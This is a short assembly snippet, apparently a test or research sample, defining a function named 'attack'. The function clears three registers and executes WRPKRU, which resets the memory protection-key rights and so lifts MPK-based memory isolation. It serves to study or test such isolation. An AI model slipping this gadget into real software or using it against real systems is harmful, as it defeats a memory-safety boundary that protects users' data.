function attack
    xor %eax,%eax
    xor %ecx,%ecx
    xor %edx,%edx
    wrpkru
    ret
